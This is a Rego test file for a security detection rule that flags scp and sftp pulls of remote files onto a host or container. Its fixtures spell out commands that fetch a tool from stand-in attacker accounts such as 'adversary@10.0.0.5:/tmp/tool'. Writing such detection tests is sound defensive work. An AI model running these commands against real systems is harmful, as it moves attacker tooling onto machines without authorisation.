package palisade.rules.remote_file_copy_in_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.rules.remote_file_copy_in as rule

test_scp_pull if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/scp", ["scp", "-o", "BatchMode=yes", "adversary@10.0.0.5:/tmp/tool", "/tmp/"])
	hits == {"scp copies files from adversary@10.0.0.5:/tmp/tool on the host: scp -o BatchMode=yes adversary@10.0.0.5:/tmp/tool /tmp/"}
}

test_sftp_either_way if {
	count(rule.hits) == 1 with input as fx.container_exec("/usr/bin/sftp", ["sftp", "victim@host:/tmp/victim-files/"])
	count(rule.hits) == 1 with input as fx.host_exec("/usr/bin/sftp", ["sftp", "adversary@host:/tmp/x", "/tmp/"])
}

test_copies_out_and_local_copies_are_not_matched if {
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/scp", ["scp", "/tmp/x", "user@host:/tmp/"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/rsync", ["rsync", "-a", "src/", "dst/"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/sftp", ["sftp", "host"])
}
